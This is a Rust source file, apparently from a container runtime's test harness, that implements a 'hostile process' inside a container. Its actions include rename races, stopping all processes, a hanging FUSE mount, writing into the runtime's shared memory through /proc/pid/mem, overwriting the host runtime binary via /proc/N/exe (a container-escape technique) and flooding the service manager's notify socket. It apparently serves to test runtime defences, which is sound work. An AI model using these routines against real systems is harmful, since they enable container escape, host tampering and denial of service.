//! Actions of a hostile process in a container.

use super::prowl;
use crate::{json, sys};
use nix::fcntl::{AT_FDCWD, OFlag, RenameFlags, open, renameat2};
use nix::sys::socket::{ControlMessage, MsgFlags, UnixAddr, sendmsg};
use nix::sys::stat::Mode;
use std::fs::{self, OpenOptions};
use std::io::{IoSlice, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixDatagram;
use std::time::{Duration, Instant};

/// Performs one action, in most cases for ever; `false` if the word is not one of these.
pub(super) fn act(name: &str, args: &[&str]) -> bool {
    let arg = |n: usize| args.get(n).copied().unwrap_or("");
    match name {
        "swing" => swing(arg(0), arg(1), arg(2) == "exchange"),
        "prowl" => prowl::prowl(arg(0), arg(1) == "confined"),
        "stop" => stop_all(),
        "fuse" => fuse(arg(0)),
        "scribble" => scribble(arg(0).parse().unwrap_or(0)),
        "grab" => grab(),
        "barrier" => barrier(),
        "flood" => flood(arg(0).parse().unwrap_or(1)),
        _ => return false,
    }
    true
}

/// Renames `a` to `b` and back, or exchanges the two, for ever. The duration of each state varies, so that another
/// process meets each of them at every point.
fn swing(a: &str, b: &str, exchange: bool) {
    let flags = if exchange { RenameFlags::RENAME_EXCHANGE } else { RenameFlags::empty() };
    println!("{}", json!({"ready": true}));
    let mut dice = 0x2545_f491u64 ^ u64::from(std::process::id());
    loop {
        for (from, to) in [(a, b), (b, a)] {
            // An empty directory that the victim has created meanwhile blocks the rename once.
            let _ = renameat2(AT_FDCWD, from, AT_FDCWD, to, flags);
            dice ^= dice << 13;
            dice ^= dice >> 7;
            dice ^= dice << 17;
            let until = Instant::now() + Duration::from_micros(dice % 200);
            while Instant::now() < until {
                std::hint::spin_loop();
            }
        }
    }
}

/// Stops every other process that it can see, repeatedly.
fn stop_all() {
    println!("{}", json!({"ready": true}));
    loop {
        sys::kill(-1, libc::SIGSTOP);
    }
}

/// Mounts a file system in userspace on a directory, and answers only the first request, which initialises it.
fn fuse(directory: &str) {
    use nix::mount::{MsFlags, mount};
    use std::io::Read;
    const INIT: u32 = 26;
    let mut device = OpenOptions::new().read(true).write(true).open("/dev/fuse").unwrap();
    let data = format!("fd={},rootmode=40000,user_id=0,group_id=0,allow_other", device.as_raw_fd());
    mount(Some("hanging"), directory, Some("fuse"), MsFlags::empty(), Some(data.as_str())).unwrap();
    let mut request = vec![0; 1 << 17];
    loop {
        let length = device.read(&mut request).unwrap_or(0);
        let word = |at: usize| u32::from_ne_bytes(request[at..at + 4].try_into().unwrap());
        if length >= 16 && word(4) == INIT {
            // struct fuse_out_header and struct fuse_init_out: version 7.31, writes of 4096 bytes.
            let mut answer = [0u8; 80];
            answer[..4].copy_from_slice(&80u32.to_ne_bytes());
            answer[8..16].copy_from_slice(&request[8..16]);
            for (at, value) in [(16, 7u32), (20, 31), (36, 4096)] {
                answer[at..at + 4].copy_from_slice(&value.to_ne_bytes());
            }
            device.write_all(&answer).unwrap();
            println!("{}", json!({"ready": true}));
        }
    }
}

/// Stops every process that appears in its pid namespace, writes a number into the memory that it shares with the
/// runtime, after the first words, and continues it.
fn scribble(number: u32) {
    println!("{}", json!({"ready": true}));
    let own = std::process::id() as i32;
    let mut told = false;
    loop {
        for entry in fs::read_dir("/proc").unwrap().flatten() {
            let pid = entry.file_name().to_str().and_then(|name| name.parse::<i32>().ok());
            let Some(pid) = pid.filter(|pid| *pid != own) else { continue };
            sys::kill(pid, libc::SIGSTOP);
            if write_shared(pid, number) && !std::mem::replace(&mut told, true) {
                println!("{}", json!({"written": true}));
            }
            sys::kill(pid, libc::SIGCONT);
        }
    }
}

fn write_shared(pid: i32, number: u32) -> bool {
    use std::os::unix::fs::FileExt;
    let maps = fs::read_to_string(format!("/proc/{pid}/maps")).unwrap_or_default();
    let Ok(memory) = OpenOptions::new().write(true).open(format!("/proc/{pid}/mem")) else { return false };
    let shared = maps.lines().filter(|line| line.contains("rw-s") && line.contains("orlop-plan"));
    let ranges = shared.filter_map(|line| line.split(' ').next()?.split_once('-'));
    let edge = |text: &str| u64::from_str_radix(text, 16).unwrap_or(0);
    let mut written = false;
    for (from, to) in ranges.map(|(from, to)| (edge(from), edge(to))) {
        for page in (from..to).step_by(4096) {
            let skipped = if page == from { 16 } else { 0 };
            written |= memory.write_all_at(&number.to_ne_bytes().repeat(4), page + skipped).is_ok();
        }
    }
    written
}

/// Keeps the executable file of each process that joins this container open, and once that has exited makes it
/// writable and writes to it: `/proc/N/exe` of a runtime that is a file of the host.
fn grab() {
    println!("{}", json!({"ready": true}));
    let own = exe("self");
    let mut pid = std::process::id() as i32 + 1;
    let mut idle = 0;
    loop {
        let found =
            (pid..pid + 4).find(|next| ![own.as_str(), ""].contains(&exe(&next.to_string()).as_str()));
        if let Some(next) = found {
            keep_and_write(next);
            (pid, idle) = (next + 1, 0);
        }
        idle += 1;
        if idle > 2000 {
            let text = fs::read_to_string("/proc/loadavg").unwrap_or_default();
            let last = text.split_whitespace().last().and_then(|number| number.parse::<i32>().ok());
            (pid, idle) = (last.unwrap_or(pid) + 1, 0);
        }
    }
}

fn keep_and_write(pid: i32) {
    let (link, path) = (exe(&pid.to_string()), format!("/proc/{pid}/exe"));
    let Ok(kept) = open(path.as_str(), OFlag::O_PATH | OFlag::O_CLOEXEC, Mode::empty()) else { return };
    // It is not executed any more once the process has executed another program.
    while exe(&pid.to_string()) == link {
        std::hint::spin_loop();
    }
    let again = format!("/proc/self/fd/{}", kept.as_raw_fd());
    let _ = fs::set_permissions(&again, fs::Permissions::from_mode(0o777));
    let written = OpenOptions::new().write(true).open(&again).and_then(|mut file| file.write_all(b"#"));
    let errno = written.as_ref().err().and_then(std::io::Error::raw_os_error).unwrap_or(0);
    println!("{}", json!({"had": link, "written": written.is_ok(), "errno": errno}));
}

fn exe(process: &str) -> String {
    fs::read_link(format!("/proc/{process}/exe"))
        .map(|link| link.to_string_lossy().into_owned())
        .unwrap_or_default()
}

/// Sends a descriptor to the service manager, in the one message that may carry descriptors.
fn barrier() {
    let to = std::env::var("NOTIFY_SOCKET").unwrap_or_default();
    let socket = UnixDatagram::unbound().unwrap();
    let file = fs::File::open("/probe").unwrap();
    let fds = [file.as_raw_fd()];
    let (text, control) = ([IoSlice::new(b"BARRIER=1")], [ControlMessage::ScmRights(&fds)]);
    let sent = UnixAddr::new(to.as_str())
        .and_then(|to| sendmsg(socket.as_raw_fd(), &text, &control, MsgFlags::empty(), Some(&to)));
    println!("{}", json!({"sent": sent.is_ok()}));
}

/// Sends the service manager this many messages, as fast as possible.
fn flood(count: usize) {
    let to = std::env::var("NOTIFY_SOCKET").unwrap_or_default();
    let socket = UnixDatagram::unbound().unwrap();
    let text = format!("STATUS={}", "x".repeat(4000));
    let sent = (0..count).take_while(|_| socket.send_to(text.as_bytes(), &to).is_ok()).count();
    println!("{}", json!({"sent": sent}));
}
